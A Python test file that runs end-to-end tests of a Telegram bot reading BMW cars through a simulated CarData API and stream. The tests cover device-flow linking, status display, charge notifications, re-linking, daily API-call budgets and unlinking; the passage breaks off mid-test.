"""A real car through BMW CarData, end to end: the bot with both backends in the sandbox, CarData's simulator
over HTTP and its stream over TLS MQTT. Linking by the device flow in the chat, /status from the stream with
the age of each part, the read-only keyboard and commands, charge pushes (complete, stopped) exactly once,
the re-link prompt after a refused refresh, Refresh with the day's calls spent, /unlink.
"""

from __future__ import annotations

import asyncio
import csv
import html
import io
import sqlite3
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from telegram.ext import Application

from bot.bmw.simulator import Fault
from bot.car_errors import ErrorKind
from bot.cardata.models import StreamBlock
from bot.cardata.models.keys import CHARGING_STATUS, DOOR_STATUS
from bot.cardata.simulator import (
    DEFAULT_BEV_VIN,
    DEFAULT_CLIENT_ID,
    DEFAULT_GCID,
    DEFAULT_REX_VIN,
    DEFAULT_SECONDARY_VIN,
    CardataSimulator,
)
from bot.cardata_backend import CarDataBackend
from bot.chat import texts
from bot.config import Settings
from bot.garage import Garage
from bot.history import CSV_COLUMNS
from bot.sandbox.driver import ChatMessage, Sandbox, SandboxUser
from bot.store import UserSettings
from tests.support.bot import fast_client, running_bot
from tests.support.cardata import OWNER
from tests.support.waits import until

# The device flow polled every second (BMW: 5 s), so linking takes a second, not five.
# The cars stream every change (live, iDrive 7 and later): these tests push from a streamed charge.
pytestmark = pytest.mark.parametrize(
    "cardata_simulator", [{"poll_interval": 1, "kind": "live"}], indirect=True
)

CO_OWNER = 4343  # another Telegram user who links the same BMW account
REMOTE_BUTTONS = ("Lock", "Unlock", "Climate", "Charge", "Flash", "Horn", "Find", "Range map")
TYPED_COMMANDS = ("/lock", "/unlock", "/climate", "/charge", "/flash", "/schedule")


def garage_of(application: Application) -> Garage:
    garage: Garage = application.bot_data.services.garage
    return garage


def cardata_of(application: Application) -> CarDataBackend:
    cardata = garage_of(application).cardata
    assert cardata is not None  # the bot was built with both backends
    return cardata


def charging(application: Application, vin: str) -> Callable[[], bool]:
    """Whether the bot has seen that car's charge begin (its charge detector's memory)."""
    store = cardata_of(application).store
    return lambda: (track := store.cardata_track(OWNER, vin)) is not None and track.session_start is not None


def next_budget_day_in(zone: str, sim: CardataSimulator) -> str:
    """When BMW's calls surely work again, as an English user in `zone` reads it: the later of BMW's two
    possible resets, the next UTC midnight or 24 h after the day's first call (BD FAQ 2026-07-28)."""
    midnight = (datetime.now(UTC) + timedelta(days=1)).replace(hour=0, minute=0, second=0, microsecond=0)
    first = min(r.time for r in sim.requests if r.path.startswith("/customers"))
    again = max(midnight, datetime.fromtimestamp(first, UTC) + timedelta(days=1))
    local = again.astimezone(ZoneInfo(zone))
    return f"{local:%b} {local.day}, {local.year}, {local:%H:%M}"


def texts_of(user: SandboxUser, contains: str) -> list[str]:
    return [m.text or "" for m in user.bot_messages if contains in (m.text or "")]


def rows_about(db_path: Path, tg_id: int) -> dict[str, int]:
    """How many rows of each table name that user (every table that has a tg_id)."""
    db = sqlite3.connect(db_path)
    try:
        tables = [row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        counts = {}
        for table in tables:
            columns = {row[1] for row in db.execute(f"PRAGMA table_info({table})")}
            if "tg_id" in columns:
                counts[table] = db.execute(
                    f"SELECT count(*) FROM {table} WHERE tg_id = ?", (tg_id,)
                ).fetchone()[0]
        return counts
    finally:
        db.close()


async def start_flow(
    user: SandboxUser, client_id: str = DEFAULT_CLIENT_ID, *, replacing: bool = False
) -> ChatMessage:
    """/link (`replacing`: yes, instead of the linked i Remote account), BMW CarData, the client id: the
    flow's message, waiting for the owner's approval."""
    user.send("/link")
    if replacing:
        user.press(await user.wait_for_bot_message("Link another account instead?"), "Yes, link another")
    question = await user.wait_for_bot_message("How should I reach your BMW?")
    user.press(question, "BMW CarData")
    await user.wait_for(lambda u: "Send me the client's" in (u.now(question).text or ""))
    user.send(client_id)
    return await user.wait_for_bot_message("confirm the code")


async def link_cardata(user: SandboxUser, sim: CardataSimulator) -> ChatMessage:
    """The flow started, the owner approves the code at BMW: the flow's message, linked."""
    flow = await start_flow(user)
    code = flow.button("Copy the code").copy_text
    assert code is not None
    sim.decide(code, "approved")
    await user.wait_for(lambda u: "Linked with BMW CarData" in (u.now(flow).text or ""))
    return user.now(flow)  # one message, edited as the flow went


@pytest.fixture
async def linked(
    cardata_bot: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> AsyncIterator[Application]:
    """The bot with the owner linked through CarData, their stream connected."""
    await link_cardata(user, cardata_simulator)
    await cardata_of(cardata_bot).supervisor.wait_connected(OWNER)
    yield cardata_bot


async def test_status_while_the_login_waits_for_bmw_says_so_not_link_first(
    cardata_bot: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    """Half-way through /link (the code shown, not yet approved at BMW), /status says the login is waiting;
    "use /link" would send the owner round in a circle."""
    flow = await start_flow(user)
    user.send("/status")
    waiting = await user.wait_for_bot_message(texts.CARDATA_LOGIN_PENDING[:30])
    assert texts.NOT_LINKED not in (waiting.text or "")
    code = flow.button("Copy the code").copy_text
    assert code is not None
    cardata_simulator.decide(code, "approved")
    await user.wait_for(lambda u: "Linked with BMW CarData" in (u.now(flow).text or ""))


async def test_link_by_device_flow_lists_the_primary_cars(
    cardata_bot: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    user.send("/link")
    question = await user.wait_for_bot_message("How should I reach your BMW?")
    assert [b.text for row in question.buttons for b in row] == [
        texts.BACKEND_BUTTONS["cardata"],
        texts.BACKEND_BUTTONS["iremote"],
    ]
    user.press(question, "BMW CarData")
    steps = await user.wait_for_bot_message("Send me the client's")
    assert steps.message_id == question.message_id
    assert all(
        step in (steps.text or "") for step in ("1. ", "CarData API", "CarData Stream", "MyBMW portal")
    )
    sent = user.send(DEFAULT_CLIENT_ID)

    flow = await user.wait_for_bot_message("confirm the code")
    assert user.now(sent).deleted  # the client id is treated as a secret
    code = flow.button("Copy the code").copy_text
    assert code and code in (flow.text or "")
    login = flow.button("Open the BMW login").url
    assert login is not None and login.startswith("http://127.0.0.1") and f"user_code={code}" in login
    assert code in cardata_simulator.pending_user_codes()

    cardata_simulator.decide(code, "approved")
    linked = await user.wait_for_bot_message("Linked with BMW CarData")
    assert linked.message_id == flow.message_id and not linked.buttons
    text = linked.text or ""
    assert f"i3 120Ah (…{DEFAULT_BEV_VIN[-4:]})" in text and f"i3 94 (+REX) (…{DEFAULT_REX_VIN[-4:]})" in text
    assert DEFAULT_SECONDARY_VIN[-4:] not in text  # BMW gives no data of a car the owner is not PRIMARY of
    assert not any(DEFAULT_CLIENT_ID in message.describe() for message in user.bot_messages)
    assert garage_of(cardata_bot).backend(OWNER) == "cardata"


async def test_status_comes_from_the_stream_with_the_age_of_each_part(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    user.send("/status")
    first = await user.wait_for_bot_message("🕒")
    text = first.text or ""
    for shown in (
        "i3 120Ah",
        "64 %",
        "165 km electric",
        "not plugged in",
        "secured",
        "23,417 km",
        "48.17754",
    ):
        assert shown in text, text
    assert "🕒 updated 60 min ago" in text  # the simulator's car last reported an hour ago, all at once

    cardata_simulator.move(DEFAULT_BEV_VIN, 48.2, 11.6)  # a drive: mileage and position, now, on the stream
    await until(
        lambda: cardata_of(linked).status(OWNER, DEFAULT_BEV_VIN).mileage_km == 23421, "the drive streamed"
    )
    user.send("/status")
    await user.wait_for(lambda u: len(texts_of(u, "🕒")) == 2)
    text = texts_of(user, "🕒")[-1]
    assert "📍 48.20000, 11.60000" in text and "23,421 km" in text
    assert "charge, charging, plug, doors: 60 min ago · mileage, position: just now" in text

    cardata_simulator.plug_in(DEFAULT_BEV_VIN)  # charging at once, to the car's target of 80 %
    await until(
        lambda: cardata_of(linked).status(OWNER, DEFAULT_BEV_VIN).charging is True, "the charge streamed"
    )
    user.send("/status")
    await user.wait_for(lambda u: len(texts_of(u, "🕒")) == 3)
    text = texts_of(user, "🕒")[-1]
    assert "⚡ charging to 80 %, 16 min left" in text
    assert "charging, plug, mileage, position: just now" in text


async def test_a_rex_shows_its_fuel(linked: Application, user: SandboxUser) -> None:
    user.send("/cars")
    picker = await user.wait_for_bot_message(texts.PICK_CAR)
    user.press(picker, "i3 94 (+REX)")
    status = await user.wait_for_bot_message("⛽")
    assert "38 %" in (status.text or "") and "6.5 l" in (status.text or "")


async def test_the_keyboard_and_typed_commands_are_read_only(linked: Application, user: SandboxUser) -> None:
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    labels = [button.text for row in status.buttons for button in row]
    assert "🔄 Refresh" in labels and "🗺 Range (estimate)" in labels and "📍 Location" in labels
    assert not [label for label in labels if any(name in label for name in REMOTE_BUTTONS)], labels

    shown = len(user.bot_messages)
    read_only = texts.READ_ONLY.format(car=f"i3 120Ah (…{DEFAULT_BEV_VIN[-4:]})")
    for command in TYPED_COMMANDS:
        before = len(user.bot_messages)
        user.send(command)
        await user.wait_for(lambda u, n=before: len(u.bot_messages) > n)  # type: ignore[misc]
        answer = user.bot_messages[before:]
        assert [(m.text, m.buttons) for m in answer] == [(read_only, [])], (command, user.transcript())
    # Each answered in that one line, nothing after (the chat's updates are handled in order).
    user.send("/status")
    await user.wait_for(lambda u: len(texts_of(u, "🕒")) == 2)
    assert len(user.bot_messages) == shown + len(TYPED_COMMANDS) + 1


async def test_complete_and_stopped_charges_are_pushed_once_across_a_restart(
    cardata_bot_settings: Settings, simulator_url: str, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    sim = cardata_simulator
    async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
        await link_cardata(user, sim)
        cardata = cardata_of(application)
        await cardata.supervisor.wait_connected(OWNER)

        sim.plug_in(DEFAULT_BEV_VIN)
        await until(charging(application, DEFAULT_BEV_VIN), "the BEV's charge seen")
        sim.flap(DEFAULT_BEV_VIN, seconds=0.1)  # paused, and (the clock moved on) at once charging again:
        sim.advance(0.2)  # a flap within the debounce is no stop
        sim.set_soc(DEFAULT_BEV_VIN, 80)  # the target: complete
        full = await user.wait_for_bot_message("has finished charging")
        assert f"i3 120Ah (…{DEFAULT_BEV_VIN[-4:]})" in (full.text or "") and "64 % → 80 %" in (
            full.text or ""
        )

        sim.start_charging(DEFAULT_REX_VIN)
        await until(charging(application, DEFAULT_REX_VIN), "the REX's charge seen")
        sim.unplug(DEFAULT_REX_VIN)  # stopped at 38 %, its target is 100 %
        stopped = await user.wait_for_bot_message("stopped charging before it was full")
        assert "38 %" in (stopped.text or "") and "the cable was unplugged" in (stopped.text or "")
        await cardata.detector.tick()  # anything still due is decided and pushed now

    async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
        cardata = cardata_of(application)
        await cardata.supervisor.wait_connected(OWNER)
        await cardata.detector.tick()
        user.send("/status")
        await user.wait_for_bot_message("🔌 plugged in, charging ended")

    assert len(texts_of(user, "has finished charging")) == 1, user.transcript()
    assert len(texts_of(user, "stopped charging")) == 1, user.transcript()
    assert not texts_of(user, "started charging")  # off in /notify by default


async def test_a_refused_refresh_asks_once_to_link_again(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    cardata_simulator.revoke_refresh_tokens(DEFAULT_GCID)  # revoked in the portal (or two weeks unused)
    cardata_simulator.expire_tokens(DEFAULT_GCID)  # the broker drops the stream; its renewal is refused

    prompt = await user.wait_for_bot_message("Please /link again")
    assert prompt.text == texts.CARDATA_RELINK_PUSH
    await until(lambda: cardata_of(linked).supervisor.stats(OWNER) is None, "the stream stopped")
    await cardata_of(linked).detector.tick()
    assert len(texts_of(user, "Please /link again")) == 1

    await link_cardata(user, cardata_simulator)  # a new link streams again
    await cardata_of(linked).supervisor.wait_connected(OWNER)
    assert len(texts_of(user, "Please /link again")) == 1


async def test_refresh_says_how_many_calls_are_left_then_from_when_more_are_possible(
    cardata_bot_settings: Settings, simulator_url: str, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    settings = cardata_bot_settings.model_copy(update={"cardata_daily_calls": 12})
    async with running_bot(settings, fast_client(simulator_url)) as application:
        await link_cardata(user, cardata_simulator)
        choose(application, time_zone="Asia/Tokyo")
        left = cardata_of(application).client.calls_left(OWNER)  # linking took some of the day's calls
        assert 0 < left <= texts.FEW_CALLS_LEFT + 1
        user.send("/status")
        status = await user.wait_for_bot_message("🕒")
        cardata_simulator.set_soc(DEFAULT_BEV_VIN, 70)  # the car has more to tell than the stream said yet

        for calls in range(left - 1, -1, -1):
            user.press(status, "Refresh")
            await user.wait_for_bot_message(f"🔄 {calls} of today's BMW calls left")
        assert "70 %" in (user.now(status).text or "")

        user.press(status, "Refresh")  # none left: the last status stays, and when calls work again
        spent = await user.wait_for_bot_message("No fresh snapshot from BMW")
        assert f"more are possible from {next_budget_day_in('Asia/Tokyo', cardata_simulator)}." in (
            spent.text or ""
        )
        assert "UTC" not in (spent.text or "")
        assert "70 %" in (spent.text or "") and spent.message_id == status.message_id


async def test_calls_spent_in_the_evening_stay_spent_after_midnight_until_24_hours_after_the_first(
    cardata_bot_settings: Settings, simulator_url: str, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    # BMW may reset its count at midnight UTC or 24 h after the day's first call: the bot's clock is the
    # simulator's, which is set to 18:00 UTC before the owner links and spends the day's reads.
    sim = cardata_simulator
    settings = cardata_bot_settings.model_copy(update={"cardata_daily_calls": 12})
    async with running_bot(settings, fast_client(simulator_url)) as application:
        cardata_of(application).client.clock = sim.now
        now = datetime.fromtimestamp(sim.now(), UTC)
        evening = now.replace(hour=18, minute=0, second=0, microsecond=0)
        sim.advance(((evening - now).total_seconds()) % 86400)
        await link_cardata(user, sim)
        choose(application, time_zone="America/New_York")
        user.send("/status")
        status = await user.wait_for_bot_message("🕒")
        for calls in range(cardata_of(application).client.calls_left(OWNER) - 1, -1, -1):
            user.press(status, "Refresh")
            await user.wait_for_bot_message(f"🔄 {calls} of today's BMW calls left")
        first = min(r.time for r in sim.requests if r.path.startswith("/customers"))
        again = datetime.fromtimestamp(first, UTC) + timedelta(days=1)
        assert again.hour == 18

        sim.advance(6.5 * 3600)  # 00:30 UTC: a new UTC day, but not 24 h since the first call
        assert datetime.fromtimestamp(sim.now(), UTC).strftime("%H:%M") == "00:30"
        before = len(sim.requests_to("/telematicData"))
        user.press(status, "Refresh")
        spent = html.unescape((await user.wait_for_bot_message("No fresh snapshot from BMW")).text or "")
        local = again.astimezone(ZoneInfo("America/New_York"))
        when = f"{local:%b} {local.day}, {local.year}, {local:%H:%M}"
        assert f"Today's BMW CarData calls are used up; more are possible from {when}." in spent, spent
        assert len(sim.requests_to("/telematicData")) == before

        sim.advance(again.timestamp() + 60 - sim.now())  # 18:01 UTC: 24 h since the first call
        user.press(status, "Refresh")
        await user.wait_for(lambda u: "No fresh snapshot" not in (u.now(status).text or ""))
        reads = sim.requests_to("/telematicData")[before:]
        assert reads and reads[-1].status == 200, reads  # (after a 401: the access token aged in the jump)


async def test_refresh_when_bmw_says_the_quota_is_spent(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    choose(linked, time_zone="America/New_York")
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    cardata_simulator.spend_quota(DEFAULT_GCID)  # another client of the owner's used BMW's 50 calls
    user.press(status, "Refresh")
    spent = await user.wait_for_bot_message("No fresh snapshot from BMW")
    said = html.unescape(spent.text or "")
    when = next_budget_day_in("America/New_York", cardata_simulator)
    assert f"Today's BMW CarData calls are used up; more are possible from {when}." in said
    assert "64 %" in (spent.text or "")


async def refresh_showing(user: SandboxUser, status: ChatMessage, sim: CardataSimulator, soc: int) -> str:
    """The car's charge changes, the owner presses Refresh: the status as the press left it (the edit shows
    the new charge, so each press is seen to have been handled)."""
    sim.set_soc(DEFAULT_BEV_VIN, soc)
    user.press(status, "Refresh")
    await user.wait_for(lambda u: f"{soc} %" in (u.now(status).text or ""))
    return user.now(status).text or ""


async def test_co_owners_of_one_bmw_account_each_keep_their_share_of_its_calls(
    cardata_bot_settings: Settings,
    simulator_url: str,
    sandbox: Sandbox,
    user: SandboxUser,
    cardata_simulator: CardataSimulator,
) -> None:
    # A couple, each with their own Telegram, link the same BMW account: BMW counts its calls, not theirs.
    settings = cardata_bot_settings.model_copy(update={"cardata_daily_calls": 24})
    partner = sandbox.user(CO_OWNER, "Max")
    async with running_bot(settings, fast_client(simulator_url)):
        await link_cardata(user, cardata_simulator)
        await link_cardata(partner, cardata_simulator)  # 13 of the account's 24 calls went on linking
        user.send("/status")
        status = await user.wait_for_bot_message("🕒")
        for left in range(4, -1, -1):  # Carla's share is 12 of the 24, her link's calls included
            shown = await refresh_showing(user, status, cardata_simulator, 30 + left)
            assert f"🔄 {left} of today's BMW calls left" in shown, shown
        user.press(status, "Refresh")
        spent = await user.wait_for_bot_message("No fresh snapshot from BMW")
        assert "used up" in (spent.text or "") and "👥" not in (spent.text or "")  # her own calls are why

        partner.send("/status")  # Max still has his share
        his = await partner.wait_for_bot_message("🕒")
        assert "No BMW calls are left" not in (his.text or "")
        shown = await refresh_showing(partner, his, cardata_simulator, 40)
        assert "🔄 5 of today's BMW calls left" in shown, shown
        assert cardata_simulator.calls_today(DEFAULT_GCID) == 19


async def test_when_a_co_owners_calls_are_why_none_are_left_status_and_refresh_say_so(
    cardata_bot_settings: Settings,
    simulator_url: str,
    sandbox: Sandbox,
    user: SandboxUser,
    cardata_simulator: CardataSimulator,
) -> None:
    settings = cardata_bot_settings.model_copy(update={"cardata_daily_calls": 20})
    partner = sandbox.user(CO_OWNER, "Max")
    async with running_bot(settings, fast_client(simulator_url)) as application:
        await link_cardata(user, cardata_simulator)  # alone on the account, Carla may use all its reads
        user.send("/status")
        status = await user.wait_for_bot_message("🕒")
        for soc in range(20, 33):
            await refresh_showing(user, status, cardata_simulator, soc)
        assert cardata_of(application).client.calls_left(OWNER) == 0

        await link_cardata(partner, cardata_simulator)  # from the linking reserve
        choose(application, CO_OWNER, time_zone="America/New_York")
        partner.send("/status")
        status = await partner.wait_for_bot_message("No BMW calls are left")
        his = html.unescape(status.text or "")
        until = next_budget_day_in("America/New_York", cardata_simulator)
        assert f"🔄 No BMW calls are left for your Refresh until {until}." in his, his
        co_owners = "👥 The other owners linked to this BMW account used 20 of today's calls"
        assert co_owners in his, his
        partner.press(status, "Refresh")
        spent = html.unescape((await partner.wait_for_bot_message("No fresh snapshot from BMW")).text or "")
        assert "used up" in spent and co_owners in spent, spent


async def test_unlink_and_link_again_keep_the_days_calls_of_the_account(
    cardata_bot_settings: Settings, simulator_url: str, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    settings = cardata_bot_settings.model_copy(update={"cardata_daily_calls": 20})
    async with running_bot(settings, fast_client(simulator_url)) as application:
        await link_cardata(user, cardata_simulator)
        user.send("/status")
        status = await user.wait_for_bot_message("🕒")
        for soc in range(20, 24):
            await refresh_showing(user, status, cardata_simulator, soc)
        user.send("/unlink")
        ask = await user.wait_for_bot_message(texts.UNLINK_ASK[:20])
        user.press(ask, "Yes, remove everything")
        await user.wait_for_bot_message(texts.UNLINK_DONE[:20])

        await link_cardata(user, cardata_simulator)  # the same day, the same account
        user.send("/status")
        await user.wait_for(lambda u: len(texts_of(u, "🕒")) == 2)
        status = [m for m in user.bot_messages if "🕒" in (m.text or "")][-1]
        shown = await refresh_showing(user, status, cardata_simulator, 50)
        # The day's 20: 11 before the unlink, 1 for it (the container), 7 for the new link, 1 now.
        assert "🔄 0 of today's BMW calls left" in shown, shown
        client = cardata_of(application).client  # the bot's count is BMW's
        assert client.calls_left(OWNER, linking=True) == 50 - cardata_simulator.calls_today(DEFAULT_GCID)


async def test_unlink_stops_the_stream_and_wipes_every_row(
    linked: Application,
    user: SandboxUser,
    cardata_simulator: CardataSimulator,
    cardata_bot_settings: Settings,
) -> None:
    assert rows_about(cardata_bot_settings.database_path, OWNER)["cardata_states"] == 2
    user.send("/unlink")
    ask = await user.wait_for_bot_message(texts.UNLINK_ASK[:20])
    user.press(ask, "Yes, remove everything")
    await user.wait_for_bot_message(texts.UNLINK_DONE[:20])

    assert cardata_of(linked).supervisor.stats(OWNER) is None
    assert cardata_of(linked).supervisor.state(OWNER, DEFAULT_BEV_VIN) is None
    assert {c["state"] for c in cardata_simulator.containers(DEFAULT_GCID)["containers"]} == {"DELETED"}
    assert not any(rows_about(cardata_bot_settings.database_path, OWNER).values())
    user.send("/status")
    await user.wait_for_bot_message(texts.NOT_LINKED)


async def test_a_long_pause_is_a_stop_and_says_no_stale_reason(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    # The BEV's last charge ended with its goal reached; this one pauses for longer than the debounce, and
    # the car sends no new reason: the push must not call it "charge goal reached".
    cardata_simulator.plug_in(DEFAULT_BEV_VIN)
    await until(charging(linked, DEFAULT_BEV_VIN), "the charge seen")
    cardata_simulator.flap(DEFAULT_BEV_VIN, seconds=600)
    stopped = await user.wait_for_bot_message("stopped charging before it was full")
    assert "64 %" in (stopped.text or "") and "ℹ️" not in (stopped.text or ""), stopped.text


async def test_the_stream_comes_back_after_a_broker_drop(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    supervisor = cardata_of(linked).supervisor
    cardata_simulator.drop_connections(DEFAULT_GCID)
    await until(lambda: (stats := supervisor.stats(OWNER)) is not None and stats.drops == 1, "the drop")
    await supervisor.wait_connected(OWNER)
    cardata_simulator.move(DEFAULT_BEV_VIN, 48.3, 11.7)
    await until(lambda: cardata_of(linked).status(OWNER, DEFAULT_BEV_VIN).mileage_km != 23417, "the drive")
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    assert "📍 48.30000, 11.70000" in (status.text or "") and "position: just now" in (status.text or "")


async def test_map_draws_a_ring_estimated_from_the_electric_range(
    linked: Application, user: SandboxUser
) -> None:
    user.send("/map")
    await user.wait_for(lambda u: any(m.photo for m in u.bot_messages))
    photo = next(m for m in user.bot_messages if m.photo)
    caption = photo.caption or ""
    assert "Estimated range of i3 120Ah" in caption and "from 165 km of electric range" in caption
    assert "CarData sends no range map" in caption


async def test_an_expired_code_is_tried_again_in_the_same_message(
    cardata_bot: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    flow = await start_flow(user)
    first_code = flow.button("Copy the code").copy_text
    cardata_simulator.advance(301)  # the code's five minutes pass unconfirmed
    await user.wait_for(lambda u: texts.CARDATA_EXPIRED in (u.now(flow).text or ""))
    assert not garage_of(cardata_bot).is_linked(OWNER)

    user.press(user.now(flow), "Try again")
    await user.wait_for(lambda u: "confirm the code" in (u.now(flow).text or ""))
    code = user.now(flow).button("Copy the code").copy_text
    assert code and code != first_code
    cardata_simulator.decide(code, "approved")
    await user.wait_for(lambda u: "Linked with BMW CarData" in (u.now(flow).text or ""))
    assert len([m for m in user.bot_messages if "Linked" in (m.text or "")]) == 1


async def test_a_declined_login_stores_nothing(
    cardata_bot: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    flow = await start_flow(user)
    code = flow.button("Copy the code").copy_text
    assert code is not None
    cardata_simulator.decide(code, "denied")
    await user.wait_for(lambda u: (u.now(flow).text or "") == texts.CARDATA_DENIED)
    assert not user.now(flow).buttons and not garage_of(cardata_bot).is_linked(OWNER)


async def charge_to_the_target(application: Application, user: SandboxUser, sim: CardataSimulator) -> None:
    """The BEV charges from 64 % to its target of 80 %: a charge the bot records, and BMW's history too."""
    sim.plug_in(DEFAULT_BEV_VIN)
    await until(charging(application, DEFAULT_BEV_VIN), "the charge seen")
    sim.advance(60)  # BMW's history counts whole seconds: a charge as short as a test's would have none
    sim.set_soc(DEFAULT_BEV_VIN, 80)
    await user.wait_for_bot_message("has finished charging")


async def test_history_joins_bmws_own_charging_history_to_the_recorded_charges(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    await charge_to_the_target(linked, user, cardata_simulator)
    calls = cardata_of(linked).client.calls_left(OWNER)
    user.send("/history")
    shown = await user.wait_for_bot_message("Charging history of")
    lines = (shown.text or "").splitlines()
    # BMW's three charges of the past week (how they ended unknown), and the one the bot saw end, BMW's
    # measured kWh in place of the bot's estimate: each once, with no ≈.
    charges = [line for line in lines if " · " in line]
    assert len(charges) == 4, shown.text
    assert [line.split(" · ")[1] for line in charges] == ["64–80 %", "18–80 %", "31–80 %", "22–80 %"]
    assert charges[0].endswith("🔋 complete") and not any("≈" in line for line in charges), shown.text
    assert texts.HISTORY_MEASURED in lines and texts.HISTORY_ESTIMATED not in lines
    chart = await user.wait_for_bot_message("last 30 days")  # every figure on it BMW's measured one
    assert chart.photo is not None and " kWh in 4 charges" in chart.caption and "≈" not in chart.caption
    assert cardata_of(linked).client.calls_left(OWNER) == calls - 1

    user.send("/history")  # within the hour: from the cache, no second call
    await user.wait_for(lambda u: len(texts_of(u, "Charging history of")) == 2)
    assert texts_of(user, "Charging history of")[1] == shown.text
    assert cardata_of(linked).client.calls_left(OWNER) == calls - 1


async def test_history_with_the_days_calls_spent_shows_the_recorded_charges_and_when_more_are_possible(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    await charge_to_the_target(linked, user, cardata_simulator)
    choose(linked, time_zone="Asia/Tokyo")
    cardata_simulator.spend_quota(DEFAULT_GCID)  # another client of the owner's used BMW's 50 calls
    user.send("/history")
    shown = await user.wait_for_bot_message("Charging history of")
    text = html.unescape(shown.text or "")
    charges = [line for line in text.splitlines() if " · " in line]
    assert len(charges) == 1 and "64–80 % · ≈" in charges[0] and charges[0].endswith("🔋 complete"), text
    when = next_budget_day_in("Asia/Tokyo", cardata_simulator)
    assert text.endswith(
        "BMW's own charging history could not be fetched, so only the charges I recorded show: Today's BMW "
        f"CarData calls are used up; more are possible from {when}."
    ), text


async def stream_ended(owner: int) -> None:
    """Until the owner's stream task has ended (and with it, what it does on a refused link)."""
    await asyncio.gather(*(t for t in asyncio.all_tasks() if t.get_name() == f"cardata-stream-{owner}"))


async def test_the_link_again_prompt_goes_out_once_not_at_every_restart(
    cardata_bot_settings: Settings, simulator_url: str, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    def refused() -> None:  # revoked in the portal (or two weeks unused); the stream's renewal is refused
        cardata_simulator.revoke_refresh_tokens(DEFAULT_GCID)
        cardata_simulator.expire_tokens(DEFAULT_GCID)

    async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
        await link_cardata(user, cardata_simulator)
        await cardata_of(application).supervisor.wait_connected(OWNER)
        refused()
        await user.wait_for_bot_message("Please /link again")
        await stream_ended(OWNER)
    for _ in range(2):  # each start tries the stored link, and BMW refuses it again
        async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
            await stream_ended(OWNER)
            assert cardata_of(application).supervisor.stats(OWNER) is None
    assert len(texts_of(user, "Please /link again")) == 1, user.transcript()

    async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
        await link_cardata(user, cardata_simulator)  # a new link: its refusal is told again
        await cardata_of(application).supervisor.wait_connected(OWNER)
        refused()
        await user.wait_for(lambda u: len(texts_of(u, "Please /link again")) == 2)


async def test_a_co_owners_refused_link_asks_only_them_and_the_other_keeps_getting_pushes(
    cardata_bot_settings: Settings,
    simulator_url: str,
    sandbox: Sandbox,
    user: SandboxUser,
    cardata_simulator: CardataSimulator,
) -> None:
    sim, partner_id = cardata_simulator, OWNER + 1
    partner = sandbox.user(partner_id, "Ben")  # the same BMW account, linked through their own Telegram

    def partner_charging(application: Application, vin: str) -> Callable[[], bool]:
        store = cardata_of(application).store
        return lambda: (t := store.cardata_track(partner_id, vin)) is not None and t.session_start is not None

    def partner_connects(application: Application) -> int:
        return getattr(cardata_of(application).supervisor.stats(partner_id), "connects", 0)

    async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
        await link_cardata(user, sim)  # the stream runs on the first owner's tokens
        await link_cardata(partner, sim)
        cardata = cardata_of(application)
        await cardata.supervisor.wait_connected(OWNER)
        link = cardata.store.cardata_link(OWNER)
        assert link is not None
        sim.revoke_refresh_token(link.tokens.refresh_token)  # the first owner's login ended at BMW
        sim.expire_tokens(DEFAULT_GCID)  # the broker drops the stream; the first owner's renewal is refused

        await user.wait_for_bot_message("Please /link again")
        await until(lambda: partner_connects(application) == 2, "streaming on the partner's tokens")
        sim.plug_in(DEFAULT_BEV_VIN)
        await until(partner_charging(application, DEFAULT_BEV_VIN), "the partner's charge seen")
        sim.set_soc(DEFAULT_BEV_VIN, 80)
        await partner.wait_for_bot_message("has finished charging")

    async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
        await until(lambda: partner_connects(application) == 1, "the partner streams after a restart")
        sim.start_charging(DEFAULT_REX_VIN)
        await until(partner_charging(application, DEFAULT_REX_VIN), "the REX's charge seen")
        sim.unplug(DEFAULT_REX_VIN)
        await partner.wait_for_bot_message("stopped charging before it was full")

    assert len(texts_of(user, "Please /link again")) == 1, user.transcript()
    assert not texts_of(partner, "Please /link again"), partner.transcript()
    pushed = texts_of(user, "has finished charging") + texts_of(user, "stopped charging")
    assert not pushed, user.transcript()  # the refused owner left the stream


# Not /trips: it lists a CarData car's drives.
REMOTE_COMMANDS = ("/lock", "/unlock", "/climate", "/charge", "/flash", "/schedule")


async def test_start_and_help_say_what_a_cardata_car_can_do(
    cardata_bot: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    user.send("/start")
    greeting = await user.wait_for_bot_message("Hi Carla")
    # Before linking: both ways, in brief, and which one a real car takes today.
    assert "BMW CarData" in greeting.text and "i Remote API" in greeting.text
    assert "read-only" in greeting.text and "real i3" in greeting.text
    user.send("/help")
    before = await user.wait_for_bot_message("Here is what I can do")
